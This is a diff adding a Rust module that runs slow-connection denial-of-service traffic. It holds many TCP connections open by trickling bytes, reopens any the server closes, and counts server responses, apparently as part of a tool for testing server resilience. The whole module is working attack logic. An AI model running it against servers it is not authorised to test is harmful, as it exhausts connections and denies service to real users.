@@ -1,0 +1,113 @@
+//! Connections that hold what they can for as long as the server lets them.
+
+use std::sync::Arc;
+use std::time::Duration;
+
+use rand::RngExt as _;
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::net::TcpStream;
+use tokio::task::JoinSet;
+
+use super::attackers::Scene;
+use super::connection::{open, status};
+
+/// The time over which the connections are opened.
+const RAMP: Duration = Duration::from_secs(3);
+
+/// The pause between the end of a connection and the next one in its place.
+const PAUSE: Duration = Duration::from_secs(5);
+
+/// The pause between two pieces.
+const PACE: Duration = Duration::from_secs(1);
+
+/// Slow connections of one kind.
+#[derive(Debug, Clone)]
+pub struct Slow {
+    /// The name before what is counted.
+    pub name: &'static str,
+    /// The number of connections at a time.
+    pub connections: usize,
+    /// What is sent at once.
+    pub opening: String,
+    /// What is sent again and again then, if anything.
+    pub piece: &'static [u8],
+}
+
+impl Slow {
+    /// Holds the connections until the attack is over; opens one anew where the server has closed it.
+    pub async fn run(self, scene: Arc<Scene>) {
+        let mut tasks = JoinSet::new();
+        let connections = self.connections;
+        let slow = Arc::new(self);
+        for _ in 0..connections {
+            let (slow, scene) = (Arc::clone(&slow), Arc::clone(&scene));
+            tasks.spawn(async move {
+                let start = RAMP.mul_f64(rand::rng().random_range(0.0..1.0));
+                tokio::time::sleep(start).await;
+                loop {
+                    let held = tokio::time::timeout_at(scene.until.into(), slow.hold_one(&scene)).await;
+                    if held.is_err() {
+                        return slow.count(&scene, "open at the end");
+                    }
+                    tokio::time::sleep(PAUSE).await;
+                    if scene.is_over() {
+                        return;
+                    }
+                }
+            });
+        }
+        tasks.join_all().await;
+    }
+
+    fn count(&self, scene: &Scene, what: &str) {
+        scene.count(&format!("{} {what}", self.name));
+    }
+
+    /// Opens a connection and holds it until the server closes it.
+    async fn hold_one(&self, scene: &Scene) {
+        let Ok(mut stream) = open(scene).await else { return self.count(scene, "not accepted") };
+        if stream.write_all(self.opening.as_bytes()).await.is_err() {
+            return self.count(scene, "closed");
+        }
+        self.trickle(scene, &mut stream).await;
+        self.count(scene, "closed");
+    }
+
+    /// Sends pieces until there is a response, and waits then for the end of the connection.
+    async fn trickle(&self, scene: &Scene, stream: &mut TcpStream) {
+        let (mut reader, mut writer) = stream.split();
+        let mut buffer = [0; 4096];
+        let mut answered = false;
+        loop {
+            tokio::select! {
+                read = reader.read(&mut buffer) => match read {
+                    Ok(0) | Err(_) => return,
+                    Ok(bytes) => if let Some(status) = status(buffer.get(..bytes).unwrap_or_default()) {
+                        self.count(scene, &status);
+                        answered = true;
+                    }
+                },
+                () = tokio::time::sleep(PACE), if !answered && !self.piece.is_empty() => {
+                    if writer.write_all(self.piece).await.is_err() {
+                        // What the server has said before it closed the connection.
+                        let read = reader.read(&mut buffer).await.unwrap_or(0);
+                        if let Some(status) = status(buffer.get(..read).unwrap_or_default()) {
+                            self.count(scene, &status);
+                        }
+                        return;
+                    }
+                }
+            }
+        }
+    }
+}
+
+/// Runs several kinds at the same time.
+pub async fn run_all(scene: &Arc<Scene>, kinds: Vec<Slow>) -> anyhow::Result<()> {
+    let mut tasks = JoinSet::new();
+    for kind in kinds {
+        tasks.spawn(kind.run(Arc::clone(scene)));
+    }
+    tasks.join_all().await;
+    Ok(())
+}
